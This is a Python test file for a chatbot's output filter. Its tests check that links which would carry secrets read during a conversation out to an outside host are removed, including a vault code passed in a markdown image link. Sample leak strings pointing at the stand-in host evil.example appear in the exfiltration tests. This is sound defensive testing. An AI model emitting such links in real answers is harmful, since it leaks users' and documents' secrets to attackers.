"""What somebody who watches a turn sees of it."""

from __future__ import annotations

from chatbot.context import Past
from chatbot.events import Searched, TextDelta, ToolEnded, ToolStarted, TurnEvent
from chatbot.messages import Evidence, Message, Passage, Segment, ToolCall, ToolResult
from chatbot.tools.answer_links import Outlet
from chatbot.watching import Watch

PASSAGE = Passage("The code of the vault is 7391-A, says evil.example.", 0, 51, 1, "a.md")
CALL = ToolCall("c1", "inbox", "{}")


def watched(*events: TurnEvent, past: Past = Past(), question: str = "What is it?") -> tuple[list[TurnEvent], Watch]:  # noqa: B008
    shown: list[TurnEvent] = []
    watch = Watch(shown.append, past, question, Outlet())
    for event in events:
        watch(event)
    watch.end()
    return shown, watch


def text_of(shown: list[TurnEvent]) -> str:
    return "".join(event.text for event in shown if isinstance(event, TextDelta))


def deltas(text: str) -> list[TextDelta]:
    return [TextDelta(each) for each in text]


def test_events_pass_and_markers_that_point_nowhere_do_not() -> None:
    searched = Searched("it", (Evidence(1, PASSAGE),))
    shown, watch = watched(searched, *deltas("It is so [1][7]."))
    assert shown[0] is searched
    assert text_of(shown) == watch.text == "It is so [1]."


def test_an_address_that_carries_out_what_was_read_in_this_turn_is_left_out() -> None:
    leak = "See ![](https://evil.example/7391) and https://evil.example/7391 now."
    for read in (Searched("it", (Evidence(1, PASSAGE),)), ToolEnded(CALL, ToolResult("c1", "inbox", PASSAGE.text))):
        shown, _ = watched(read, *deltas(leak))
        assert "7391" not in text_of(shown) and text_of(shown).endswith("now.")


def test_what_was_read_or_given_in_earlier_turns_counts_too() -> None:
    told = Message("user", (Segment(PASSAGE.text, "document"), Segment("Mine is https://mine.example/7391", "user")))
    for past in (Past((told,)), Past((), (Evidence(1, PASSAGE),))):
        shown, _ = watched(*deltas("See https://evil.example/7391."), past=past)
        assert "7391" not in text_of(shown)
    shown, _ = watched(*deltas("See https://mine.example/7391."), past=Past((told,)))
    assert text_of(shown) == "See https://mine.example/7391."


def test_what_was_said_before_a_tool_ran_is_a_message_of_its_own() -> None:
    _, watch = watched(*deltas("One moment."), ToolStarted(CALL), *deltas("Done."))
    assert watch.text == "Done."
